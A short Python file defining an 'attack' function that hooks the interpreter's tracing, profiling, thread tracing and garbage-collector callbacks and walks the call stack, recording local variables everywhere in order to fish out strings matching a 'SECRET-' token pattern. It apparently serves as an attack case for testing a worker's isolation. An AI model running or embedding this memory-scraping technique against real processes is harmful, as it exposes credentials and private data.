import gc
import re
import sys
import threading

SEEN = []


def attack(facts):
    """Be called for every line, every call and every collection in the worker, and keep what passes by."""

    def look(frame, event, argument):
        try:
            SEEN.append(str(frame.f_locals)[:2000])
        except Exception:  # of an object that is being made
            pass
        return look

    sys.settrace(look)
    sys.setprofile(look)
    threading.settrace(look)
    gc.callbacks.append(lambda phase, found: SEEN.append(str(found)))
    sys.meta_path.insert(0, type("Finder", (), {"find_spec": staticmethod(lambda *_: None)}))
    frame = sys._getframe()
    while frame is not None:
        look(frame, "", None)
        frame.f_trace = look
        frame = frame.f_back
    gc.collect()
    import colorsys  # noqa: F401

    sys.settrace(None)
    sys.setprofile(None)
    return {"found": found[0] for one in SEEN if (found := re.search("SECRET-[0-9a-f]{32}", one))}
